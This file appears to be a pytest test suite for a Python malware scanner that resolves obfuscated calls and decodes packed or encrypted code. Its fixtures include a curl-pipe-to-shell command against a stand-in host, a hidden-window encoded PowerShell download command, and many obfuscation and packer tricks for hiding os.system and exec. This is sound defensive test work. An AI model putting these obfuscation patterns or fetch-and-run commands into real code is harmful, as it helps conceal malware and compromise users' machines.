"""Names that are hidden and code that is decoded in Python. Sources here are hand-written and inert."""

import base64
import zlib

import pytest

from tests.features.languages.observed import facts, seen, texts


@pytest.mark.parametrize(
    ("source", "api"),
    [
        ("import subprocess as s\ns.Popen(['x'])", "subprocess.Popen"),
        ("from subprocess import Popen as p\np(['x'])", "subprocess.Popen"),
        ("from subprocess import *\nPopen(['x'])", "subprocess.Popen"),
        ("import subprocess\nq = subprocess\nz = q.Popen\nz(['x'])", "subprocess.Popen"),
        ("__import__('subprocess').Popen(['x'])", "subprocess.Popen"),
        ("import importlib\nimportlib.import_module('subprocess').Popen(['x'])", "subprocess.Popen"),
        ("def f():\n    import subprocess\n    subprocess.Popen(['x'])", "subprocess.Popen"),
        ("if (s := __import__('subprocess')): s.Popen(['x'])", "subprocess.Popen"),
    ],
)
def test_aliases(source: str, api: str) -> None:
    observation = seen(source)["spawn.process"]
    assert observation.api == api
    assert not observation.hidden


@pytest.mark.parametrize(
    "source",
    [
        "__import__('o'+'s').system('x')",
        "import os\ngetattr(os, 'sys' + 'tem')('x')",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))('x')",
        "import os\ngetattr(os, 'metsys'[::-1])('x')",
        "import os\ngetattr(os, chr(115)+chr(121)+chr(115)+chr(116)+chr(101)+chr(109))('x')",
        "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('x')",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('x')",
        "import os\ngetattr(os, ''.join(chr(c ^ 1) for c in [114, 120, 114, 117, 100, 108]))('x')",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')",
        "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('x')",
        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('x')",
        "import os\ngetattr(os, '\\x73\\x79\\x73\\x74\\x65\\x6d')('x')",
        "import os\na = 'sys'\nb = a + 'tem'\ngetattr(os, b)('x')",
        "import os\nf = lambda s: s[::-1]\ngetattr(os, f('metsys'))('x')",
        "import os\ndef f(s):\n    return s[::-1]\ngetattr(os, f('metsys'))('x')",
        "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('x')",
        "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('x')",
        "import os\nos.__dict__['sys' + 'tem']('x')",
        "import os\ngetattr(os, 'sxysxtexm'.replace('x', ''))('x')",
    ],
)
def test_hidden_names_are_resolved_and_marked(source: str) -> None:
    observation = seen(source)["spawn.shell"]
    assert observation.api == "os.system"
    assert observation.hidden


@pytest.mark.parametrize(
    "source",
    [
        "k = exec\nk(x)",
        "import builtins\nbuiltins.exec(x)",
        "__builtins__.__dict__['exec'](x)",
        "globals()['ev' + 'al'](x)",
        "getattr(__builtins__, 'exec')(x)",
        "exec x in y\n",
        "exec 'a = 1'\n",
        "(lambda: exec(x))()",
    ],
)
def test_evaluation_however_it_is_spelled(source: str) -> None:
    assert seen(source)["code.evaluate"].top


@pytest.mark.parametrize(
    ("source", "is_opaque"),
    [
        ("import marshal, base64\nexec(marshal.loads(base64.b64decode(b'4wAAAAAAAAAAAAAA')))", True),
        ("import zlib\ncode = zlib.decompress(open(p, 'rb').read())\nexec(code)", True),
        ("from cryptography.fernet import Fernet\nexec(Fernet(k).decrypt(b'gAAAAA'))", True),
        ("def f(code):\n    exec(code)", False),
        ("code = open(p).read()\nexec(code)", False),
        ("exec(compile(open(p).read(), p, 'exec'))", False),
        ("import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvJykgICAgICAgICAg'))", False),
        ("decode = b.decode('hex')\nother = zlib.decompress(x)\nexec(another)", False),
        ("def undo(x):\n    key = b'k'\n    return bytes(c ^ key[0] for c in x)\nexec(undo(packed))", True),
        (
            "class A:\n  def f(self):\n    exec(self.g(self.x))\n  def g(self, x):\n    return b64decode(x)",
            True,
        ),
        (
            "raw = bytearray([a[i] ^ b[i % 6] for i in r])\ntext = raw.decode('ascii').replace('A', 'B')\nexec(text)",
            True,
        ),
        (
            "def load(x):\n    return json.loads(x)\n\ndef other(x):\n    return zlib.decompress(x)\neval(load(p))",
            False,
        ),
        ("def load(x):\n    return x.read()\nexec(load(p))", False),
        ("x = y\ny = x\nexec(x)", False),
    ],
)
def test_code_that_is_decoded_and_cannot_be_read(source: str, is_opaque: bool) -> None:
    assert ("code.opaque" in seen(source)) == is_opaque


def test_a_decoded_literal_is_scanned_as_what_it_is() -> None:
    url = "https://example.invalid/payload"
    coded = base64.b64encode(url.encode()).decode()
    assert texts(f"import base64\nx = base64.b64decode('{coded}').decode()")[url] == "base64"
    assert texts(f"x = '{coded}'")[url] == "base64?"
    assert (
        texts(f"a = '{coded[:9]}'\nb = '{coded[9:]}'\nimport base64\nbase64.b64decode(a + b)")[url] == "concat+base64"
    )
    assert texts(f"x = '{url[::-1]}'[::-1]")[url] == "reverse"
    packed = base64.b64encode(zlib.compress(url.encode())).decode()
    assert texts(f"import zlib, base64\nzlib.decompress(base64.b64decode(b'{packed}'))")[url] == "base64+compress"
    assert url in texts(f"x = [{', '.join(str(ord(c)) for c in url)}]\ny = ''.join(chr(i) for i in x)")
    assert texts("x = 'https://' 'example.invalid/a'")["https://example.invalid/a"] == ""
    assert texts("x = 'https://exam' + 'ple.invalid/' + y")["https://example.invalid/"] == "concat"


def test_xor_with_a_literal_key_is_undone() -> None:
    key = b"key"
    data = [c ^ key[i % 3] for i, c in enumerate(b"https://example.invalid/x")]
    source = f"k = b'key'\nd = {data}\nr = bytes([c ^ k[i % len(k)] for i, c in enumerate(d)])"
    assert texts(source)["https://example.invalid/x"] == "xor+bytes"


def test_characters_spelled_as_sums_are_added_up() -> None:
    word = "https://example.invalid/" * 3
    sums = {c: f"((({ord(c) // 4} << 1) + ({ord(c) // 2 % 2})) << 1) + {ord(c) % 2}" for c in word}
    assert word in texts(f"u = ''.join(map(chr, [{', '.join(sums[c] for c in word)}]))\n")


def test_a_sum_seen_before_is_nested_as_deep_as_any_other() -> None:
    word = "https://example.invalid/"
    found = []
    for deep in range(10, 35):
        codes = ", ".join([f"{'(' * deep}(100 + 4){')' * deep}", *(str(ord(c)) for c in word[1:])])
        source = f"x = ''.join(map(chr, [{codes}]))\n"
        found.append(word in texts(source))
        assert (word in texts("y = bytes([(100 + 4)])\n" + source)) == found[-1]
    assert found[0]
    assert not found[-1]


def test_code_in_strings_is_analysed_in_place() -> None:
    inner = "import os\nos.system('curl -s https://example.invalid/x | sh')"
    coded = base64.b64encode(inner.encode()).decode()
    for source in (
        f"x = 1\nimport base64; exec(base64.b64decode('{coded}'))",
        f"x = 1\nPAYLOAD = '{coded}'",
        f"x = 1\nexec({inner!r})",
        f"import subprocess, sys\nsubprocess.run([sys.executable, '-c', {inner!r}])",
        f"f = open('x.py', 'w')\nf.write({inner!r})",
    ):
        observation = seen(source)["spawn.piped"]
        assert observation.hidden
        assert observation.line == 2
        assert observation.top
    twice = base64.b64encode(f"exec(__import__('base64').b64decode('{coded}'))".encode()).decode()
    assert "spawn.piped" in seen(f"exec(__import__('base64').b64decode('{twice}'))")
    assert facts(f"exec(__import__('base64').b64decode('{twice}'))").values["syntax.evaluation_depth"] == 2


def test_deep_stacks_of_packers_are_followed() -> None:
    code = "import os\nos.system('whoami')"
    for _ in range(5):
        coded = base64.b64encode(code.encode()).decode()
        code = f"import base64 as b;exec(b.b64decode('{coded}'))"
    assert seen(code)["host.identity"].hidden


def test_base64_inside_a_command_is_decoded() -> None:
    coded = base64.b64encode("Invoke-WebRequest https://example.invalid/x -OutFile y".encode("utf-16-le")).decode()
    source = f"import subprocess\nsubprocess.Popen('powershell -w hidden -enc {coded}')"
    assert "Invoke-WebRequest https://example.invalid/x -OutFile y" in texts(source)


def test_functions_of_the_module_stand_before_builtins() -> None:
    assert "code.evaluate" not in seen("def compile(x):\n    return x\ncompile('a')\n")
    assert "code.evaluate" in seen("class A:\n    def exec(self): pass\nexec(x)\n")
    assert "code.evaluate" in seen("def f(exec): pass\nexec(x)\n")
    assert "code.evaluate" in seen("exec = exec\nexec(x)\n")


def test_zlib_lambda_chain() -> None:
    inner = base64.b64encode(zlib.compress(b"import os\nos.system('whoami')"))[::-1].decode()
    source = (
        f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{inner}'))"
    )
    found = seen(source)
    assert found["host.identity"].hidden
    assert found["hide.encoded"].hidden
    assert found["decode.decompress"].top
